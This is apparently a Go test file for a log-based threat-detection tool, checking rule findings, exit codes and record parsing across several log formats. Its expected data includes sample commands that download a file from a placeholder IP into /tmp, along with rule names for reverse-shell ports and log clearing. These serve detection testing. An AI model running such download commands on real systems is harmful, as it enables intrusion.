package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// runDetect runs `vedette detect ARGS` and returns what it wrote and the exit
// code.
func runDetect(t *testing.T, stdin string, args ...string) (stdout, stderr string, code int) {
	t.Helper()
	root := newRoot()
	var out, errs bytes.Buffer
	root.SetOut(&out)
	root.SetErr(&errs)
	root.SetIn(strings.NewReader(stdin))
	code = execute(t.Context(), root, append([]string{"detect", "--rules", filepath.Join("testdata", "detect", "rules.yml")}, args...))
	return out.String(), errs.String(), code
}

var detectInputs = filepath.Join("testdata", "detect", "inputs")

// line is what is promised of a finding.
type line struct {
	Input  string  `json:"input"`
	Line   *int    `json:"line"`
	Record *uint64 `json:"record"`
	Group  []string
	Rule   struct{ ID, Title, Level string }
}

func lines(t *testing.T, out string) []line {
	t.Helper()
	var got []line
	for text := range strings.Lines(out) {
		var l line
		if err := json.Unmarshal([]byte(text), &l); err != nil {
			t.Fatalf("%v: %s", err, text)
		}
		got = append(got, l)
	}
	return got
}

// TestDetectOnOurOwnRecords runs the command over a file of each format; what
// it must find was written by hand.
func TestDetectOnOurOwnRecords(t *testing.T) {
	out, errs, code := runDetect(t, "", "--json", "--stats", "--jobs", "3", detectInputs)
	if code != 0 {
		t.Fatalf("code %d: %s", code, errs)
	}
	var got []string
	for _, l := range lines(t, out) {
		place := "-"
		if l.Line != nil {
			place = fmt.Sprintf("line %d", *l.Line)
		}
		if l.Record != nil {
			place = fmt.Sprintf("record %d", *l.Record)
		}
		if l.Group != nil {
			place = "group " + strings.Join(l.Group, ",")
		}
		got = append(got, fmt.Sprintf("%s %s %s", filepath.Base(l.Input), place, l.Rule.ID))
		if l.Rule.Title == "" || l.Rule.Level == "" {
			t.Errorf("a rule without title or level: %+v", l)
		}
	}
	want := []string{
		"audit.log line 1 audit-execve",
		"audit.log line 0 curl-run",
		"audit.log line 4 audit-connect",
		"audit.log line 4 port-4444",
		"audit.log line 6 cron-file",
		"auth.log line 0 ssh-refused",
		"ecs.jsonl line 0 curl-run",
		"ecs.jsonl line 1 curl-run",
		"ecs.jsonl line 2 port-4444",
		"flat.jsonl line 0 curl-run",
		"flat.jsonl line 1 logon-failed",
		"journal.export line 0 ssh-refused",
		"journal.json line 0 ssh-refused",
		"pretty.json line 1 log-cleared",
		"rfc5424.log line 1 ssh-refused",
		"sample.evtx.gz record 2 log-cleared",
		"winlogbeat.jsonl line 0 logon-failed",
		"winlogbeat.jsonl line 1 logon-failed",
		"winlogbeat.jsonl group eve logons-failed",
	}
	slices.Sort(want)
	slices.Sort(got)
	if !slices.Equal(got, want) {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	var s map[string]any
	if err := json.Unmarshal([]byte(errs), &s); err != nil {
		t.Fatalf("the statistics are not one JSON line: %v\n%s", err, errs)
	}
	for key, want := range map[string]float64{"events": 28, "findings": 19, "rules_loaded": 9, "rules_refused": 0, "inputs": 10, "skipped": 1, "derived": 3} {
		if s[key] != want {
			t.Errorf("%s is %v, want %v", key, s[key], want)
		}
	}
	for _, key := range []string{"match_cpu_s", "total_cpu_s", "rss_mb"} {
		if n, ok := s[key].(float64); !ok || n <= 0 {
			t.Errorf("%s is %v", key, s[key])
		}
	}
}

func TestDetectExitCodes(t *testing.T) {
	good := filepath.Join(detectInputs, "flat.jsonl")
	bad := filepath.Join(t.TempDir(), "bad.jsonl")
	if err := os.WriteFile(bad, []byte(`{"Channel":"x"}`+"\n"+`{"Channel":`+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for name, c := range map[string]struct {
		args  []string
		code  int
		tells string
	}{
		"findings":                  {[]string{good}, 0, ""},
		"findings that fail":        {[]string{"--fail-on-findings", good}, 1, ""},
		"none that fail":            {[]string{"--fail-on-findings", "--level", "critical", good}, 0, ""},
		"a line that is none":       {[]string{bad}, 2, "bad.jsonl: line 1: value Channel: read JSON object: unexpected EOF"},
		"of both":                   {[]string{"--fail-on-findings", good, bad}, 2, "line 1"},
		"a file that is not there":  {[]string{"none.evtx"}, 2, "none.evtx: no such file"},
		"a format that is not read": {[]string{filepath.Join(detectInputs, "other.png")}, 2, "not a format that is read here"},
		"a folder without any":      {[]string{t.TempDir()}, 2, "no input has a format that is read here"},
		"no input":                  {nil, 2, "requires at least 1 arg"},
		"no such form":              {[]string{"--format", "xml", good}, 2, `no form "xml"; the forms are table, json`},
		"no such level":             {[]string{"--level", "worst", good}, 2, "the levels are informational, low"},
		"no such rules":             {[]string{"--rules", "none", good}, 2, "none"},
	} {
		_, errs, code := runDetect(t, "", c.args...)
		if code != c.code || !strings.Contains(errs, c.tells) || c.code == 0 && errs != "" {
			t.Errorf("%s: code %d, want %d; stderr %q, want %q", name, code, c.code, errs, c.tells)
		}
	}
}

// TestDetectTellsWhatItLeftOut: when a record uses up the work that one may
// cost, the rules that were not asked about it could have found something.
func TestDetectTellsWhatItLeftOut(t *testing.T) {
	dir := t.TempDir()
	var rules strings.Builder
	for i := range 600 {
		fmt.Fprintf(&rules, "---\ntitle: r%d\nid: r%d\nlevel: low\nlogsource: {product: windows, service: security}\ndetection:\n  s: {Text|re: '[a-z]{%d}[0-9]\\W'}\n  condition: not s\n", i, i, i+1)
	}
	write := func(name, text string) string {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		return path
	}
	file := write("rules.yml", rules.String())
	dear := write("dear.jsonl", `{"Channel":"Security","EventID":"1","Text":"`+strings.Repeat("ab", 30_000)+`"}`+"\n")
	cheap := write("cheap.jsonl", `{"Channel":"Security","EventID":"1","Text":"ab"}`+"\n")
	for _, c := range []struct {
		input string
		spent string
		told  bool
	}{{dear, `"spent":1`, true}, {cheap, `"spent":0`, false}} {
		out, errs, code := runDetect(t, "", "--json", "--stats", "--rules", file, c.input)
		if code != 0 || !strings.Contains(errs, c.spent) || strings.Contains(errs, "1 records cost more than one record may") != c.told {
			t.Errorf("%s: code %d, %s", filepath.Base(c.input), code, errs)
		}
		if n := strings.Count(out, "\n"); (n < 600) != c.told {
			t.Errorf("%s: %d of 600 findings", filepath.Base(c.input), n)
		}
	}
}

func TestDetectReadsStandardInputAndWritesAFile(t *testing.T) {
	text, err := os.ReadFile(filepath.Join(detectInputs, "sample.evtx.gz"))
	if err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "out.csv")
	out, errs, code := runDetect(t, string(text), "--format", "csv", "-o", file, "-")
	if code != 0 || out != "" || errs != "" {
		t.Errorf("code %d, stdout %q, stderr %q", code, out, errs)
	}
	csv, err := os.ReadFile(file)
	if err != nil || !strings.Contains(string(csv), ",high,Log was cleared,log-cleared,h1,System,104,'-,,2,") {
		t.Errorf("%v: %s", err, csv)
	}
}

func TestDetectLevel(t *testing.T) {
	out, _, _ := runDetect(t, "", "--json", "--level", "high", detectInputs)
	for _, l := range lines(t, out) {
		if l.Rule.Level != "high" {
			t.Errorf("%+v", l)
		}
	}
	if n := len(lines(t, out)); n != 6 {
		t.Errorf("%d findings of high rules, want 6", n)
	}
}

func TestRecords(t *testing.T) {
	root := newRoot()
	var out, errs bytes.Buffer
	root.SetOut(&out)
	root.SetErr(&errs)
	code := execute(t.Context(), root, []string{"records", filepath.Join(detectInputs, "sample.evtx.gz"), filepath.Join(detectInputs, "audit.log"), filepath.Join(detectInputs, "ecs.jsonl")})
	if code != 0 || errs.Len() > 0 {
		t.Fatalf("code %d, %s", code, errs.String())
	}
	for _, want := range []string{
		`{"Channel":"Security","Computer":"h1","EventID":"4624",`, `"_input":"` + filepath.Join(detectInputs, "sample.evtx.gz") + `","_time":"2026-11-21T12:00:00.1234567Z"}`,
		`"_derived":true,"_input":"` + filepath.Join(detectInputs, "audit.log") + `","_line":0,`, `"CommandLine":"curl -o /tmp/a b.sh http://198.51.100.7/x"`,
		`"process":{"command_line":"curl -o /tmp/x http://198.51.100.7/"`,
	} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("no %s in\n%s", want, out.String())
		}
	}
	if n := strings.Count(out.String(), "\n"); n != 3+13+3 {
		t.Errorf("%d lines, want 19", n)
	}
	root = newRoot()
	root.SetErr(&errs)
	if code := execute(t.Context(), root, []string{"records", filepath.Join(detectInputs, "other.png")}); code != 2 || !strings.Contains(errs.String(), "not a format that is read here") {
		t.Errorf("code %d: %s", code, errs.String())
	}
}
